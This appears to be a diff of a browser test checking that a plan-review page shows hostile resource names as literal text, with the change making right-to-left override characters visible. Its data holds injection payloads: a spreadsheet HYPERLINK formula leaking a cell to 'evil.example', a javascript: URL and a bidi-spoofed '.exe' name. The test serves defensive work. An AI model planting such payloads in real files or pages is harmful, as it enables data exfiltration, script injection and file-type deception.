@@ -24,6 +24,8 @@ const CSV_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
 const KEY = `aws_kms_key.k[${JSON.stringify(IMG)}]`;
 const BUCKET = `aws_s3_bucket.${SVG}`;
 const RTL_BUCKET = `aws_s3_bucket.${RTL}`;
+/** How the page shows it: the override made visible, so it cannot reorder the text around it. */
+const RTL_SHOWN = 'aws_s3_bucket.invoice\\u{202e}gpj.exe';
 const DB = `aws_db_instance.${CSV_FORMULA}`;
 const LISTENER = `aws_lb_listener.javascript:window.__pwned='url'`;
 const QUEUE = `aws_sqs_queue.${'q'.repeat(2500)}${SCRIPT}`;
@@ -96,11 +98,12 @@ test('a pasted hostile plan: every payload is text in every view, and nothing ru
 
   // Findings and their details show each payload literally.
   const findings = await openAllFindings(page);
-  for (const s of [KEY, BUCKET, RTL_BUCKET, DB, LISTENER, QUEUE]) assert.ok(findings.includes(s), `findings show ${s.slice(0, 60)}`);
+  for (const s of [KEY, BUCKET, RTL_SHOWN, DB, LISTENER, QUEUE]) assert.ok(findings.includes(s), `findings show ${s.slice(0, 60)}`);
+  assert.ok(!(await page.textContent('body')).includes('\u202e'), 'no raw right-to-left override is shown anywhere');
   assert.ok(findings.includes(`uses ssl_policy "${IMG}"`) || findings.includes(IMG), 'the hostile ssl_policy is shown as evidence');
   assert.ok(findings.includes(SCRIPT), 'a hostile tag key or Sid is shown as evidence');
   const addresses = await page.$$eval('[data-testid=finding] td.address', (els) => els.map((e) => e.textContent));
-  assert.ok(addresses.includes(KEY) && addresses.includes(RTL_BUCKET), 'table cells hold the exact strings');
+  assert.ok(addresses.includes(KEY) && addresses.includes(RTL_SHOWN), 'table cells hold the exact strings, bidi controls made visible');
   // Tooltips: the category's evidence (a name heuristic on the right-to-left name).
   const titles = await page.$$eval('[title]', (els) => els.map((e) => e.getAttribute('title')));
   // The engine quotes evidence with its control characters escaped (the RTL override shows as
